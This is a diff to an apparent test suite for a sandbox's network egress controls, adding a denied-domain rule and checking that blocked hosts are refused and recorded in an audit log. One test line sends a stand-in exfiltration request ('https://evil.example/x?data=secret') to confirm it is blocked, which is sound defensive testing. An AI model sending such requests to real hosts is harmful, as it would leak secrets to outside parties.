@@ -34,7 +34,7 @@ servers:
   web:
     command: ${process.execPath}
     args: [${REACHING}]
-    sandbox: {filesystem: {allowRead: [${REACHING}]}, network: {allowedDomains: ['localhost:${port}']}, limits: {memoryMb: 512}}
+    sandbox: {filesystem: {allowRead: [${REACHING}]}, network: {allowedDomains: ['localhost:${port}', '*.denied.example'], deniedDomains: [a.denied.example]}, limits: {memoryMb: 512}}
 expose: {tools: [web.*]}
 profiles: {default: {servers: [web]}}
 rules: [{id: all, outcome: allow, when: {verbs: [read, write, destructive, execute]}}]
@@ -57,11 +57,12 @@ rules: [{id: all, outcome: allow, when: {verbs: [read, write, destructive, execu
   it('reaches them, and no other host, and each refusal is in the audit' + verifies('PF-03'), async () => {
     expect(await reach(`http://localhost:${port}/`)).toBe('200 the page');
     expect(await reach('https://evil.example/x?data=secret')).toContain('evil.example:443 (Tollgate: not-allowed)');
+    expect(await reach('https://a.denied.example/')).toContain('not-allowed');
     expect(await reach(`http://127.0.0.1:${port}/`)).toContain('not-allowed');
     const { out } = await cli(project, ['audit', 'list', '--all', '--json', '--type', 'server']);
     const blocked = dataOf<readonly Record<string, unknown>[]>(out).filter(({ event }) => event === 'egress-blocked');
     expect(blocked.map(({ server, host, port: to, reason, outcome, count }) => [server, host, to, reason, outcome, count])).toEqual([
-      ['web', 'evil.example', 443, 'not-allowed', 'deny', 1], ['web', '127.0.0.1', port, 'not-allowed', 'deny', 1],
+      ['web', 'evil.example', 443, 'not-allowed', 'deny', 1], ['web', 'a.denied.example', 443, 'not-allowed', 'deny', 1], ['web', '127.0.0.1', port, 'not-allowed', 'deny', 1],
     ]);
     expect(out).not.toContain('data=secret');
     expect((await cli(project, ['audit', 'list', '--all', '--type', 'server'])).out).toContain('not-allowed evil.example:443');
